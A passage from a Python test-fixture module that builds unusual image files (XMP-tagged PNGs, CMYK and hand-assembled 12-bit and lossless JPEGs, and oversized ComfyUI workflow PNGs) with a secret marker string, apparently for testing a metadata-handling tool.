    Lightroom and some phones' editors export."""
    packet = (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
        '"http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        f'xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="{orientation}" '
        f'tiff:Artist="{_SECRET_TEXT}"/></rdf:RDF></x:xmpmeta>'
    ).encode()
    text = zlib.compress(packet) if compressed else packet
    payload = b"XML:com.adobe.xmp\x00" + bytes([int(compressed), 0]) + b"\x00\x00" + text
    return insert_png_chunk(encode(quadrants(), "PNG"), b"iTXt", payload)


def cmyk_press_jpeg(profile: bytes | None) -> bytes:
    """CMYK patches in a JPEG, tagged with the press's profile (or with none)."""
    options: dict[str, object] = {"quality": 95}
    if profile is not None:
        options["icc_profile"] = profile
    return encode(patches(CMYK_PATCHES, "CMYK"), "JPEG", **options)


# ---------------------------------------------------------------- unusual JPEGs


def unusual_jpeg(kind: str, size: tuple[int, int] = (16, 16)) -> bytes:
    """A real, valid mid-grey JPEG of a kind Pillow cannot write.

    "12-bit": extended sequential DCT (SOF1) with 12-bit samples, as medical and some raw
    workflows write, which Pillow's 8-bit libjpeg interface cannot decode; "lossless":
    lossless JPEG (SOF3, predictor 1), which libjpeg-turbo 3 decodes. Assembled here: every
    difference is zero, which one Huffman code of one bit, '0', encodes, so the entropy-coded
    data is all zero bits.
    """
    width, height = size
    if kind == "12-bit":
        frame_marker, precision = 0xC1, 12
        quantisation = _jpeg_segment(0xDB, b"\x00" + bytes([1]) * 64)
        # One DC code (difference category 0) and one AC code (end of block) per 8x8 block.
        symbols = 2 * math.ceil(width / 8) * math.ceil(height / 8)
        tables = _jpeg_huffman(0x00) + _jpeg_huffman(0x10)
        scan = bytes([1, 1, 0x00, 0, 63, 0])
    elif kind == "lossless":
        frame_marker, precision = 0xC3, 8
        quantisation = b""
        symbols = width * height  # one difference per sample
        tables = _jpeg_huffman(0x00)
        scan = bytes([1, 1, 0x00, 1, 0, 0])  # predictor 1 (left), point transform 0
    else:
        raise ValueError(kind)
    frame = bytes([precision]) + height.to_bytes(2, "big") + width.to_bytes(2, "big")
    frame += bytes([1, 1, 0x11, 0])
    entropy = bytes(math.ceil(symbols / 8))
    return (
        b"\xff\xd8" + quantisation + _jpeg_segment(frame_marker, frame) + tables
        + _jpeg_segment(0xDA, scan) + entropy + b"\xff\xd9"
    )


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload


def _jpeg_huffman(table_class_and_id: int) -> bytes:
    # One code of length 1 ('0') for the symbol 0: category 0 (DC) or end of block (AC).
    counts = bytes([1]) + bytes(15)
    return _jpeg_segment(0xC4, bytes([table_class_and_id]) + counts + b"\x00")


# ---------------------------------------------------------------- honest but awkward PNGs


def png_with_large_workflow(kind: bytes = b"zTXt", size: int = 3 * 1024 * 1024) -> bytes:
    """A ComfyUI-style PNG whose compressed workflow inflates past Pillow's 1 MB text limit."""
    nodes = [
        {"id": n, "type": "KSampler", "widgets_values": [n * 7919 % 100_000, 20, 7.5, "euler"],
         "title": f"{_SECRET_TEXT} node {n}"}
        for n in range(size // 120)
    ]
    text = json.dumps({"nodes": nodes}).encode()[:size]
    if kind == b"zTXt":
        payload = b"workflow\x00\x00" + zlib.compress(text, 9)
    else:
        payload = b"workflow\x00\x01\x00\x00\x00" + zlib.compress(text, 9)
    return insert_png_chunk(plain_png(), kind, payload)
